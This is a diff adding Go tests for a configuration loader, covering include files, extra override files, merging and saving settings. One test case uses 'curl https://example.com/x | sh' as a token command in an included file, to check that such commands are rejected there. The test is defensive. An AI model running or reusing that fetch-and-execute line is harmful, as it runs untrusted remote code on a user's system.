@@ -0,0 +1,377 @@
+package config
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// useConfigDir points the config path to config.json in a temporary folder
+func useConfigDir(t *testing.T) string {
+	t.Helper()
+	dir := t.TempDir()
+	originalConfigPathFunc := configPathFunc
+	configPathFunc = func() (string, error) {
+		return filepath.Join(dir, "config.json"), nil
+	}
+	t.Cleanup(func() { configPathFunc = originalConfigPathFunc })
+	t.Setenv(ExtraConfigEnv, "")
+	return dir
+}
+
+func writeJSONFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatalf("Failed to create folder: %v", err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0600); err != nil {
+		t.Fatalf("Failed to write %s: %v", path, err)
+	}
+}
+
+func readJSONFile(t *testing.T, path string) map[string]any {
+	t.Helper()
+	object, err := readJSONObject(path)
+	if err != nil {
+		t.Fatalf("Failed to read %s: %v", path, err)
+	}
+	return object
+}
+
+func TestMergeJSON(t *testing.T) {
+	tests := []struct {
+		name     string
+		base     string
+		overlay  string
+		expected string
+	}{
+		{
+			name:     "objects are merged key by key",
+			base:     `{"github": {"enabled": true, "username": "team"}, "jira": {"url": "https://acme.atlassian.net"}}`,
+			overlay:  `{"github": {"username": "me"}}`,
+			expected: `{"github": {"enabled": true, "username": "me"}, "jira": {"url": "https://acme.atlassian.net"}}`,
+		},
+		{
+			name:     "lists are replaced",
+			base:     `{"github": {"repos": ["acme/api", "acme/web"]}}`,
+			overlay:  `{"github": {"repos": ["me/dotfiles"]}}`,
+			expected: `{"github": {"repos": ["me/dotfiles"]}}`,
+		},
+		{
+			name:     "maps of settings are merged",
+			base:     `{"aliases": {"today": "sum --since 1d", "week": "sum --since 7d"}}`,
+			overlay:  `{"aliases": {"today": "sum --since 12h"}}`,
+			expected: `{"aliases": {"today": "sum --since 12h", "week": "sum --since 7d"}}`,
+		},
+		{
+			name:     "a scalar replaces an object",
+			base:     `{"notify": {"window": "15m"}}`,
+			overlay:  `{"notify": null}`,
+			expected: `{"notify": null}`,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			parse := func(text string) map[string]any {
+				var object map[string]any
+				if err := json.Unmarshal([]byte(text), &object); err != nil {
+					t.Fatalf("Failed to parse %s: %v", text, err)
+				}
+				return object
+			}
+			expected := parse(tt.expected)
+
+			merged := mergeJSON(parse(tt.base), parse(tt.overlay))
+			if !reflect.DeepEqual(merged, expected) {
+				t.Errorf("Expected %v, got %v", expected, merged)
+			}
+		})
+	}
+}
+
+func TestLoad_Include(t *testing.T) {
+	dir := useConfigDir(t)
+	absolute := filepath.Join(t.TempDir(), "defaults.json")
+	writeJSONFile(t, absolute, `{"github": {"enabled": true, "username": "defaults", "repos": ["acme/api"]}, "notify": {"window": "30m"}}`)
+	writeJSONFile(t, filepath.Join(dir, "team", "daily.json"), `{"github": {"username": "team", "stale_after_days": 5}, "jira": {"enabled": true, "url": "https://acme.atlassian.net"}}`)
+	writeJSONFile(t, filepath.Join(dir, "config.json"), `{"include": ["`+absolute+`", "team/daily.json"], "github": {"username": "me", "token": "secret"}}`)
+
+	config, err := Load()
+	if err != nil {
+		t.Fatalf("Failed to load config: %v", err)
+	}
+
+	if config.GitHub.Username != "me" {
+		t.Errorf("Expected the config file to win, got username %q", config.GitHub.Username)
+	}
+	if config.GitHub.StaleAfterDays != 5 {
+		t.Errorf("Expected stale_after_days from the team file, got %d", config.GitHub.StaleAfterDays)
+	}
+	if !config.GitHub.Enabled || !reflect.DeepEqual(config.GitHub.Repos, []string{"acme/api"}) {
+		t.Errorf("Expected enabled and repos from the absolute include, got %v and %v", config.GitHub.Enabled, config.GitHub.Repos)
+	}
+	if config.JIRA.URL != "https://acme.atlassian.net" || config.Notify.Window != "30m" {
+		t.Errorf("Expected the settings of both includes, got JIRA URL %q and window %q", config.JIRA.URL, config.Notify.Window)
+	}
+}
+
+func TestLoad_ExtraConfig(t *testing.T) {
+	dir := useConfigDir(t)
+	writeJSONFile(t, filepath.Join(dir, "team.json"), `{"github": {"username": "team", "stale_after_days": 5}}`)
+	writeJSONFile(t, filepath.Join(dir, "config.json"), `{"include": ["team.json"], "github": {"username": "me"}}`)
+	first := filepath.Join(dir, "ci.json")
+	second := filepath.Join(dir, "ci-override.json")
+	writeJSONFile(t, first, `{"github": {"username": "ci-bot", "stale_after_days": 1}}`)
+	writeJSONFile(t, second, `{"github": {"stale_after_days": 2}}`)
+	t.Setenv(ExtraConfigEnv, first+string(os.PathListSeparator)+second)
+
+	config, err := Load()
+	if err != nil {
+		t.Fatalf("Failed to load config: %v", err)
+	}
+
+	if config.GitHub.Username != "ci-bot" {
+		t.Errorf("Expected the extra file to override the config file, got username %q", config.GitHub.Username)
+	}
+	if config.GitHub.StaleAfterDays != 2 {
+		t.Errorf("Expected the last extra file to win, got stale_after_days %d", config.GitHub.StaleAfterDays)
+	}
+}
+
+func TestLoad_IncludeErrors(t *testing.T) {
+	tests := []struct {
+		name     string
+		files    map[string]string
+		extra    string
+		expected string
+	}{
+		{
+			name:     "missing include",
+			files:    map[string]string{"config.json": `{"include": ["team.json"]}`},
+			expected: "include:",
+		},
+		{
+			name: "nested include",
+			files: map[string]string{
+				"config.json": `{"include": ["team.json"]}`,
+				"team.json":   `{"include": ["other.json"]}`,
+			},
+			expected: "included files can't include other files",
+		},
+		{
+			name:     "include is not a list",
+			files:    map[string]string{"config.json": `{"include": "team.json"}`},
+			expected: "include: expected a list of paths",
+		},
+		{
+			name: "invalid included file",
+			files: map[string]string{
+				"config.json": `{"include": ["team.json"]}`,
+				"team.json":   `{"github": `,
+			},
+			expected: "failed to parse",
+		},
+		{
+			name: "token command in an included file",
+			files: map[string]string{
+				"config.json": `{"include": ["team.json"]}`,
+				"team.json":   `{"github": {"enabled": true, "token_cmd": "curl https://example.com/x | sh"}}`,
+			},
+			expected: "github.token_cmd can only be set in the config file",
+		},
+		{
+			name:     "token in an extra file",
+			files:    map[string]string{"config.json": `{}`, "ci.json": `{"translate": {"token": "secret"}}`},
+			extra:    "ci.json",
+			expected: "translate.token can only be set in the config file",
+		},
+		{
+			name:     "missing extra file",
+			files:    map[string]string{"config.json": `{}`},
+			extra:    "missing.json",
+			expected: ExtraConfigEnv,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := useConfigDir(t)
+			for name, content := range tt.files {
+				writeJSONFile(t, filepath.Join(dir, name), content)
+			}
+			if tt.extra != "" {
+				t.Setenv(ExtraConfigEnv, filepath.Join(dir, tt.extra))
+			}
+
+			_, err := Load()
+			if err == nil {
+				t.Fatal("Expected an error, got nil")
+			}
+			if !strings.Contains(err.Error(), tt.expected) {
+				t.Errorf("Expected error containing %q, got %v", tt.expected, err)
+			}
+		})
+	}
+}
+
+func TestSave_WithIncludeOnlyWritesChanges(t *testing.T) {
+	dir := useConfigDir(t)
+	teamPath := filepath.Join(dir, "team.json")
+	team := `{"github": {"enabled": true, "repos": ["acme/api"], "stale_after_days": 5}, "jira": {"enabled": true, "url": "https://acme.atlassian.net"}}`
+	writeJSONFile(t, teamPath, team)
+	writeJSONFile(t, filepath.Join(dir, "config.json"), `{"include": ["team.json"], "github": {"username": "me", "token": "secret"}}`)
+	extraPath := filepath.Join(dir, "ci.json")
+	writeJSONFile(t, extraPath, `{"notify": {"window": "1m"}}`)
+	t.Setenv(ExtraConfigEnv, extraPath)
+
+	config, err := Load()
+	if err != nil {
+		t.Fatalf("Failed to load config: %v", err)
+	}
+	config.Goals.Daily = map[string]int{"reviews": 10}
+	config.GitHub.Username = "me-again"
+	if err := config.Save(); err != nil {
+		t.Fatalf("Failed to save config: %v", err)
+	}
+
+	expected := map[string]any{
+		"include": []any{"team.json"},
+		"github":  map[string]any{"username": "me-again", "token": "secret"},
+		"goals":   map[string]any{"daily": map[string]any{"reviews": float64(10)}},
+	}
+	if personal := readJSONFile(t, filepath.Join(dir, "config.json")); !reflect.DeepEqual(personal, expected) {
+		t.Errorf("Expected only the changes in the config file, got %v", personal)
+	}
+
+	data, err := os.ReadFile(teamPath)
+	if err != nil {
+		t.Fatalf("Failed to read team file: %v", err)
+	}
+	if string(data) != team {
+		t.Errorf("Expected the included file to be left untouched, got %s", data)
+	}
+
+	// A second save only writes what changed since the first one
+	config.GitHub.Repos = []string{"me/dotfiles"}
+	if err := config.Save(); err != nil {
+		t.Fatalf("Failed to save config: %v", err)
+	}
+	personal := readJSONFile(t, filepath.Join(dir, "config.json"))
+	github := personal["github"].(map[string]any)
+	if !reflect.DeepEqual(github["repos"], []any{"me/dotfiles"}) {
+		t.Errorf("Expected the changed list in the config file, got %v", github["repos"])
+	}
+	if _, ok := github["stale_after_days"]; ok {
+		t.Error("Expected settings of the included file to stay out of the config file")
+	}
+	if _, ok := personal["notify"]; ok {
+		t.Error("Expected settings of the extra file to stay out of the config file")
+	}
+}
+
+func TestSave_WithIncludeKeepsTokenCommands(t *testing.T) {
+	dir := useConfigDir(t)
+	writeJSONFile(t, filepath.Join(dir, "team.json"), `{"github": {"enabled": true}}`)
+	writeJSONFile(t, filepath.Join(dir, "config.json"), `{"include": ["team.json"], "github": {"username": "me", "token_cmd": "echo my-token"}}`)
+
+	config, err := LoadWithTokens()
+	if err != nil {
+		t.Fatalf("Failed to load config: %v", err)
+	}
+	if config.GitHub.Token != "my-token" {
+		t.Fatalf("Expected the token of the command, got %q", config.GitHub.Token)
+	}
+	config.JIRA.Enabled = true
+	if err := config.Save(); err != nil {
+		t.Fatalf("Failed to save config: %v", err)
+	}
+
+	personal := readJSONFile(t, filepath.Join(dir, "config.json"))
+	if github := personal["github"].(map[string]any); !reflect.DeepEqual(github, map[string]any{"username": "me", "token_cmd": "echo my-token"}) {
+		t.Errorf("Expected the GitHub settings of the config file unchanged, got %v", github)
+	}
+}
+
+func TestSet(t *testing.T) {
+	dir := useConfigDir(t)
+	teamPath := filepath.Join(dir, "team.json")
+	team := `{"github": {"enabled": true, "username": "team"}}`
+	writeJSONFile(t, teamPath, team)
+	writeJSONFile(t, filepath.Join(dir, "config.json"), `{"include": ["team.json"]}`)
+
+	sets := [][2]string{
+		{"github.token", "12345"},
+		{"github.username", "me"},
+		{"github.stale_after_days", "5"},
+		{"github.repos", `["acme/api"]`},
+		{"aliases.today", "sum --since 1d"},
+	}
+	for _, set := range sets {
+		path, err := Set(set[0], set[1])
+		if err != nil {
+			t.Fatalf("Failed to set %s: %v", set[0], err)
+		}
+		if path != filepath.Join(dir, "config.json") {
+			t.Errorf("Expected the config file to be written, got %s", path)
+		}
+	}
+
+	expected := map[string]any{
+		"include": []any{"team.json"},
+		"github": map[string]any{
+			"token":            "12345",
+			"username":         "me",
+			"stale_after_days": float64(5),
+			"repos":            []any{"acme/api"},
+		},
+		"aliases": map[string]any{"today": "sum --since 1d"},
+	}
+	if personal := readJSONFile(t, filepath.Join(dir, "config.json")); !reflect.DeepEqual(personal, expected) {
+		t.Errorf("Expected %v, got %v", expected, personal)
+	}
+
+	data, err := os.ReadFile(teamPath)
+	if err != nil {
+		t.Fatalf("Failed to read team file: %v", err)
+	}
+	if string(data) != team {
+		t.Errorf("Expected the included file to be left untouched, got %s", data)
+	}
+}
+
+func TestSet_Errors(t *testing.T) {
+	tests := []struct {
+		name     string
+		key      string
+		value    string
+		expected string
+	}{
+		{name: "unknown setting", key: "github.nickname", value: "me", expected: `unknown setting "github.nickname"`},
+		{name: "unknown section", key: "bitbucket.enabled", value: "true", expected: "unknown setting"},
+		{name: "empty key", key: "github.", value: "me", expected: "unknown setting"},
+		{name: "invalid JSON", key: "github.enabled", value: "yes", expected: "invalid value"},
+		{name: "wrong type", key: "github.stale_after_days", value: `"five"`, expected: "invalid value"},
+		{name: "invalid config", key: "cache.max_age_days", value: "-1", expected: "invalid config"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := useConfigDir(t)
+
+			_, err := Set(tt.key, tt.value)
+			if err == nil {
+				t.Fatal("Expected an error, got nil")
+			}
+			if !strings.Contains(err.Error(), tt.expected) {
+				t.Errorf("Expected error containing %q, got %v", tt.expected, err)
+			}
+			if _, err := os.Stat(filepath.Join(dir, "config.json")); !os.IsNotExist(err) {
+				t.Error("Expected no config file to be written")
+			}
+		})
+	}
+}